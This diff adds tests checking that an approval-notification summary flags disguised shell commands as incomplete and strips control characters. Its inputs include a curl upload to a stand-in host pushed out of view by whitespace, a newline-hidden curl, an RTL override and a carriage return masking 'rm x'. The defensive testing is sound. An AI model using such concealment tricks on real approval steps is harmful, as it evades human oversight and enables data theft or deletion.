@@ -270,6 +270,17 @@ test.each([
   expect(message).toMatchObject({ isWhole: false, summary: 'Open it to see what would run.' });
 });
 
+test.each([
+  `ls${'\n'.repeat(8)}curl x.example`,
+  `curl x.example ${' '.repeat(300)} -d @x`,
+  'ls \u202e x',
+  'ls \r rm x',
+])('A2: %j is not seen whole in a notification, so it is decided on the page', (text) => {
+  const message = approvalMessage(call(text));
+  expect(message).toMatchObject({ isWhole: false });
+  expect(message.summary).not.toMatch(/[\r\u202e]/);
+});
+
 test('A2: a message has at most 3 KiB and says when it is not all', () => {
   expect(approvalMessage(call('x '.repeat(1000)))).toMatchObject({ isWhole: false });
   const unit = fc.constantFrom('a', ' ', '"', '\\', '\n', '\u0001', 'ü', '€', '😀');
